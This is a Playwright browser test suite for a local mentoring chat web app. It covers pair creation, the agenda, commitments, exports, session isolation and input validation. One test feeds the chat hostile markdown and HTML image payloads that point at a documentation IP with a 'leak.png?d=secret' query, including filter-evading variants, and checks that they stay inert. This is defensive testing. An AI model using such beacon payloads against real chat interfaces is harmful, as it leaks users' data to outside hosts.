"""The web app in a real browser: Debian's chromium driven by Playwright against `comentor ui` as users start it.

Screenshots of every step go to test-artifacts/ui/ (look at them: the page must read well).
"""

from __future__ import annotations

import json
import os
import re
import shutil
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from facilitator.testing.fake_openai import FakeOpenAIServer, Reply
from reliability.load import UIProcess

from .conftest import ROOT

CHROMIUM = "/usr/bin/chromium"
ARTIFACTS = ROOT / "test-artifacts" / "ui"
LOCAL = re.compile(r"^(https?|wss?)://(127\.0\.0\.1|localhost)(:\d+)?/")

if not Path(CHROMIUM).exists():
    if os.environ.get("CI"):
        raise RuntimeError("chromium is missing in CI: `make system-deps` should have installed it")
    pytest.skip("Debian's chromium is not installed (apt-get install -y chromium)", allow_module_level=True)

playwright_api = pytest.importorskip("playwright.sync_api")
expect = playwright_api.expect
pytestmark = pytest.mark.slow


class UIServer(UIProcess):
    """`comentor ui` as users start it (reliability.load.UIProcess), plus the demo pair's link it prints."""

    demo_link = ""

    def start(self) -> UIServer:
        super().start()
        found = re.search(r"open (http://\S+)", self.log.read_text())
        self.demo_link = found.group(1) if found else ""
        return self


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[UIServer]:
    ui = UIServer(tmp_path_factory.mktemp("ui-home")).start()
    yield ui
    ui.stop()


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with playwright_api.sync_playwright() as p:
        chromium = p.chromium.launch(
            executable_path=CHROMIUM,
            args=[
                "--no-sandbox",
                "--disable-gpu",
                "--disable-quic",
                "--no-first-run",
                "--disable-background-networking",
                "--disable-component-update",
                "--disable-sync",
            ],
        )
        yield chromium
        chromium.close()


class Page:
    """A page plus the requests it made, and small helpers that speak in the app's element ids."""

    def __init__(self, browser: Any, name: str, viewport: tuple[int, int] = (1360, 1000)) -> None:
        width, height = viewport
        self.context = browser.new_context(viewport={"width": width, "height": height}, accept_downloads=True)
        self.page = self.context.new_page()
        self.name = name
        self.requests: list[str] = []
        self.page.on("request", lambda r: self.requests.append(r.url))
        self.step = 0
        ARTIFACTS.mkdir(parents=True, exist_ok=True)

    def shot(self, label: str) -> None:
        self.step += 1
        self.page.screenshot(path=str(ARTIFACTS / f"{self.name}-{self.step:02d}-{label}.png"), full_page=True)

    def outside(self) -> list[str]:
        return [u for u in self.requests if not LOCAL.match(u) and not u.startswith(("data:", "blob:"))]

    def el(self, elem_id: str) -> Any:
        return self.page.locator(f"#{elem_id}")

    def status(self) -> Any:
        return self.el("status")

    def fill(self, elem_id: str, text: str) -> None:
        self.page.locator(f"#{elem_id} textarea, #{elem_id} input").first.fill(text)

    def speaker(self, name: str) -> None:
        self.el("speaker").get_by_text(name, exact=True).click()

    def say(self, name: str, text: str) -> None:
        self.speaker(name)
        self.fill("message", text)
        self.el("send").click()
        expect(self.el("chat")).to_contain_text(text[:40], timeout=20_000)
        self.idle()

    def idle(self) -> None:
        """Wait until no event is pending (Gradio marks pending outputs with a progress overlay)."""
        self.page.wait_for_timeout(300)
        self.page.wait_for_function("() => !document.querySelector('.pending, .generating')", timeout=30_000)

    def pick(self, elem_id: str, option: str) -> None:
        self.el(elem_id).locator("input").first.click()
        self.page.get_by_role("option", name=re.compile(re.escape(option))).first.click()

    def close(self) -> None:
        self.context.close()


def open_pair(page: Page, url: str, pair_id: str, code: str) -> None:
    page.page.goto(url)
    expect(page.el("open-pair")).to_be_visible(timeout=30_000)
    page.fill("pair-id", pair_id)
    page.fill("access-code", code)
    page.el("open-pair").click()
    expect(page.el("speaker")).to_be_visible(timeout=20_000)
    page.idle()


def test_full_flow_in_a_real_browser(server: UIServer, browser: Any, tmp_path: Path) -> None:
    from icalendar import Calendar

    page = Page(browser, "flow")
    p = page.page
    p.goto(server.url)
    expect(page.el("create-pair")).to_be_visible(timeout=30_000)
    expect(page.el("banner")).to_contain_text("offline facilitator")
    expect(page.status()).to_contain_text("Open your pair", timeout=20_000)
    page.idle()
    page.shot("start")

    # a new pair
    for elem_id, value in {
        "p1-name": "Carla Mendes",
        "p1-role": "Head of finance",
        "p1-offers": "budgeting, negotiation",
        "p1-seeks": "data visualisation",
        "p2-name": "Dev Patel",
        "p2-role": "Junior analyst",
        "p2-offers": "data visualisation, Python",
        "p2-seeks": "negotiation",
        "goals": "a clearer monthly report",
    }.items():
        page.fill(elem_id, value)
    suggested = page.el("new-pair-id").locator("input, textarea").first
    expect(suggested).to_have_value(re.compile(r"^carla-dev-[0-9a-f]{6}$"), timeout=20_000)  # from the names
    page.shot("new-pair-form")
    page.el("create-pair").click()
    expect(page.status()).to_contain_text("your access code is", timeout=20_000)
    code = re.search(r"access code is (\S+?)\.?$", page.status().inner_text().strip())
    assert code, page.status().inner_text()
    page.idle()
    page.shot("pair-created")
    pair_id = re.search(r"with the id (carla-dev-[0-9a-f]{6});", page.status().inner_text())
    assert pair_id, page.status().inner_text()  # a random suffix: a second Carla & Dev get their own pair
    assert server.store().check_access(pair_id.group(1), code.group(1).rstrip("."))

    # the agenda: generate, edit a lead, start
    page.el("agenda-builder").get_by_text("Build or edit today's agenda").click()
    page.el("minutes").locator("input[type=number]").fill("30")
    page.el("plan-agenda").click()
    expect(page.el("agenda-table")).to_contain_text("Carla leads", timeout=30_000)
    page.idle()
    page.shot("agenda-drafted")
    page.el("start-agenda").click()
    expect(page.el("agenda")).to_contain_text("Now (1 of", timeout=20_000)
    expect(page.el("agenda")).to_contain_text("min left")
    page.idle()
    page.shot("agenda-started")

    # chat as both partners
    page.say("Carla", "Hi Dev, good to see you. I'd like to get better at charts this month.")
    page.say("Dev", "Happy to help. Could you teach me how you prepare for a budget negotiation?")
    chat = page.el("chat")
    expect(chat).to_contain_text("Carla:")
    expect(chat).to_contain_text("Dev:")
    page.shot("chatting")

    # a facilitator question and a challenge
    page.speaker("Dev")
    page.el("suggest-question").click()
    expect(chat).to_contain_text("For Carla", timeout=20_000)
    page.idle()
    page.el("challenge").click()
    expect(chat).to_contain_text("challenge", timeout=20_000)
    page.idle()
    page.shot("question-and-challenge")

    # a balance check says how the airtime is shared; the next agenda item moves the agenda on
    page.el("balance-check").click()
    expect(chat).to_contain_text(re.compile(r"Talk is balanced|heard mostly from"), timeout=20_000)
    page.idle()
    page.el("next-item").click()
    expect(chat).to_contain_text("Next:", timeout=20_000)
    expect(page.el("agenda")).to_contain_text("Now (2 of", timeout=20_000)
    page.idle()

    # a commitment, proposed live, confirmed by both partners
    page.say("Dev", "Could you send me the negotiation checklist by next Friday?")
    page.say("Carla", "Yes, I'll send you the negotiation checklist by next Friday.")
    items = page.el("commitments")
    expect(items).to_contain_text("negotiation checklist", timeout=20_000)
    expect(items).to_contain_text("Carla")
    expect(items).to_contain_text("not yet")
    page.pick("item-pick", "negotiation checklist")
    page.speaker("Carla")
    page.el("confirm-item").click()
    expect(items).to_contain_text("✔ Carla", timeout=20_000)
    page.idle()
    page.pick("item-pick", "negotiation checklist")
    page.speaker("Dev")
    page.el("confirm-item").click()
    expect(items).to_contain_text("✔ both", timeout=20_000)
    page.idle()
    page.shot("commitment-confirmed")

    # either partner can edit an item: a new due date
    page.pick("item-pick", "negotiation checklist")
    page.fill("edit-due", "2026-12-04")
    page.el("edit-item").click()
    expect(items).to_contain_text("2026-12-04", timeout=20_000)
    page.idle()

    # balance chart is drawn
    expect(page.el("balance").locator("img")).to_be_visible()

    # summarize and export
    page.el("summarize").click()
    expect(page.status()).to_contain_text("Summarized", timeout=30_000)
    page.idle()
    page.shot("summarized")
    with p.expect_download(timeout=20_000) as md_download:
        page.el("export-md").click()
    markdown = Path(md_download.value.path()).read_text(encoding="utf-8")
    assert "## Accountability items" in markdown
    row = next(line for line in markdown.splitlines() if line.startswith("|") and "negotiation checklist" in line)
    assert row.startswith("| Carla |") and "confirmed by both" in row
    assert "I'll send you the negotiation checklist" in row  # the quoted line it came from
    with p.expect_download(timeout=20_000) as ics_download:
        page.el("export-ics").click()
    calendar = Calendar.from_ical(Path(ics_download.value.path()).read_bytes())
    events = [str(e.get("summary")) for e in calendar.walk("VEVENT")]
    assert any(e.startswith("Carla: ") and "negotiation checklist" in e for e in events), events
    page.shot("exported")
    assert any(e.get("dtstart").dt.isoformat() == "2026-12-04" for e in calendar.walk("VEVENT"))

    # history: this session and the pair's open items
    p.get_by_role("tab", name="History").click()
    expect(page.el("history")).to_contain_text("this session", timeout=10_000)
    expect(page.el("history")).to_contain_text("negotiation checklist")
    page.shot("history")

    # the page fetched nothing from outside
    assert page.outside() == [], page.outside()
    page.close()


def test_a_second_browser_cannot_see_the_first_pairs_session(server: UIServer, browser: Any) -> None:
    store = server.store()
    code = store.rotate_code("ana-ben")
    assert code
    first = Page(browser, "isolation-first")
    open_pair(first, server.url, "ana-ben", code)
    secret = f"canary-{time.time_ns()}"
    first.say("Ana", f"Only the two of us should ever read this: {secret}")

    second = Page(browser, "isolation-second")
    second.page.goto(server.url)
    expect(second.el("open-pair")).to_be_visible(timeout=30_000)
    second.idle()
    assert secret not in second.page.content()
    second.fill("pair-id", "ana-ben")
    second.fill("access-code", "not-the-code")
    second.el("open-pair").click()
    expect(second.status()).to_contain_text("wrong pair id or access code", timeout=20_000)
    second.idle()
    second.shot("wrong-code")
    assert secret not in second.page.content()
    second.page.reload()
    second.idle()
    assert secret not in second.page.content()
    first.close()
    second.close()


def test_bad_input_is_answered_in_the_page_and_nothing_is_lost(server: UIServer, browser: Any) -> None:
    store = server.store()
    code = store.rotate_code("ana-ben")
    assert code
    page = Page(browser, "bad-input")
    page.page.goto(f"{server.url}?pair=ana-ben&code={code}")
    expect(page.el("speaker")).to_be_visible(timeout=30_000)
    page.idle()
    session_id = store.list_sessions("ana-ben")[-1].id
    before = len(store.turns(session_id))

    # export before anything was summarized
    page.el("export-md").click()
    expect(page.status()).to_contain_text("nothing to export yet", timeout=20_000)
    page.idle()

    # no speaker chosen, then an empty message
    page.fill("message", "Hello there")
    page.el("send").click()
    expect(page.status()).to_contain_text("choose who is typing", timeout=20_000)
    page.idle()
    page.speaker("Ben")
    page.fill("message", "   ")
    page.el("send").click()
    expect(page.status()).to_contain_text("the message is empty", timeout=20_000)
    page.idle()

    # a very long message: refused, and still in the box
    long_text = "word " * 2000
    page.fill("message", long_text)
    page.el("send").click()
    expect(page.status()).to_contain_text("over the 8000-character limit", timeout=20_000)
    page.idle()
    assert page.el("message").locator("textarea").input_value() == long_text
    page.shot("long-message")
    assert len(store.turns(session_id)) == before

    # a double-clicked send stores the message once
    page.fill("message", "Double click me once please")
    page.el("send").dblclick()
    expect(page.el("chat")).to_contain_text("Double click me once", timeout=20_000)
    page.idle()
    page.page.wait_for_timeout(1000)
    texts = [t.text for t in store.turns(session_id)]
    assert texts.count("Double click me once please") == 1, texts

    # hostile markdown is shown inert: no remote image is fetched, no raw HTML is rendered
    page.fill("message", "look ![x](http://203.0.113.9/leak.png?d=secret) and <img src=http://203.0.113.9/b.png> ok")
    page.el("send").click()
    chat = page.el("chat")
    expect(chat).to_contain_text("image not shown", timeout=20_000)
    expect(chat).to_contain_text("<img src=")  # shown as text, not rendered
    page.idle()
    # ... nor the shapes that slip past simple patterns (a title in parentheses, nested or escaped brackets, alt
    # text over two lines)
    page.fill(
        "message",
        "a ![t](http://203.0.113.9/t.png (t)) b ![n [x] y](http://203.0.113.9/n.png) "
        "c ![e\\]f](http://203.0.113.9/e.png) d ![two\nlines](http://203.0.113.9/l.png)",
    )
    page.el("send").click()
    expect(chat).to_contain_text("two", timeout=20_000)
    page.idle()
    page.page.wait_for_timeout(1000)
    assert chat.locator("img[src*='203.0.113.9']").count() == 0
    page.shot("hostile-markdown")
    assert page.outside() == [], page.outside()
    assert len(store.turns(session_id)) == before + 3
    page.close()


def test_a_bad_link_and_a_taken_pair_id_are_explained_in_the_page(server: UIServer, browser: Any) -> None:
    page = Page(browser, "links-and-ids")
    for query in ("?pair=nosuch&code=x", "?pair=ana-ben&code=not-the-code", "?pair=ana-ben"):
        page.page.goto(server.url + query)
        expect(page.status()).to_contain_text("this link did not open a pair", timeout=30_000)
        page.idle()
        assert page.page.evaluate("location.search") == ""  # the code leaves the address bar
        expect(page.el("open-pair")).to_be_visible()
    expect(page.status()).to_contain_text("open your pair below with its id and code")
    page.shot("bad-link")

    page.fill("p1-name", "Ana Souza")
    page.fill("p2-name", "Ben Rao")
    field = page.el("new-pair-id").locator("input, textarea").first
    expect(field).to_have_value(re.compile(r"^ana-ben-[0-9a-f]{6}$"), timeout=20_000)
    page.idle()
    field.fill("ana-ben")  # the demo pair's id
    page.el("create-pair").click()
    expect(page.status()).to_contain_text("the pair id 'ana-ben' is taken; use 'ana-ben-", timeout=20_000)
    expect(field).to_have_value(re.compile(r"^ana-ben-[0-9a-f]{6}$"))  # a free id, ready to use
    page.idle()
    page.shot("taken-id")
    free = field.input_value()
    page.el("create-pair").click()
    expect(page.status()).to_contain_text(f"Pair created with the id {free};", timeout=20_000)
    page.idle()
    store = server.store()
    assert store.get_pair("ana-ben").participants[0].name == "Ana Ruiz"  # the demo pair is as it was
    assert store.get_pair(free).participants[0].name == "Ana Souza"
    page.close()


def test_refresh_and_restart_resume_the_session(browser: Any, tmp_path: Path) -> None:
    ui = UIServer(tmp_path / "home").start()
    try:
        assert ui.demo_link, "the demo pair's link is printed on first start"
        page = Page(browser, "resume")
        page.page.goto(ui.demo_link)
        expect(page.el("speaker")).to_be_visible(timeout=30_000)
        page.idle()
        page.say("Ana", "Before the refresh: we agreed to look at the survey numbers.")
        page.page.reload()
        expect(page.el("chat")).to_contain_text("Before the refresh", timeout=30_000)
        page.idle()
        ui.stop()
        ui.start()
        # no link this time: the browser remembers the pair. (Waiting for "load" here once timed out in a full CI run
        # while the page's old connections to the stopped server were still closing; the chat check below is what
        # counts.)
        page.page.goto(ui.url, wait_until="domcontentloaded", timeout=60_000)
        expect(page.el("chat")).to_contain_text("Before the refresh", timeout=30_000)
        page.idle()
        page.shot("after-restart")
        page.close()
    finally:
        ui.stop()


def test_streaming_reply_and_speaker_switch_mid_stream(browser: Any, tmp_path: Path) -> None:
    words = "Ben, what would a first small experiment with short-form video look like for you this week?"
    with FakeOpenAIServer(responder=lambda _body: Reply.text(words, first_token_delay=0.5, chunk_delay=0.15)) as fake:
        ui = UIServer(
            tmp_path / "home",
            env={"OPENAI_BASE_URL": fake.base_url, "OPENAI_API_KEY": "test-key", "COMENTOR_MODEL": "fake-model"},
        ).start()
        try:
            page = Page(browser, "llm")
            page.page.goto(ui.demo_link)
            expect(page.el("speaker")).to_be_visible(timeout=30_000)
            expect(page.el("banner")).to_contain_text("fake-model")
            page.idle()
            page.speaker("Ana")
            page.fill("message", "@facilitator what should Ben try first?")
            page.el("send").click()
            page.page.wait_for_timeout(200)
            page.speaker("Ben")  # switching speaker while the reply streams
            partial = False
            deadline = time.monotonic() + 30
            while time.monotonic() < deadline:  # the reply grows in the page before it is complete
                text = page.el("chat").inner_text()
                if "Ben, what would" in text and "this week?" not in text:
                    partial = True
                if "this week?" in text:
                    break
                page.page.wait_for_timeout(50)
            assert partial, "the reply was not streamed into the page"
            expect(page.el("chat")).to_contain_text("first small experiment", timeout=30_000)
            page.idle()
            page.shot("streamed")
            turns = ui.store().turns(ui.store().list_sessions("ana-ben")[-1].id)
            assert [t.speaker for t in turns] == ["ana"]
            assert "what should Ben try first" in json.dumps(fake.requests[-1].body)
            page.close()
        finally:
            ui.stop()
    shutil.rmtree(tmp_path / "home", ignore_errors=True)
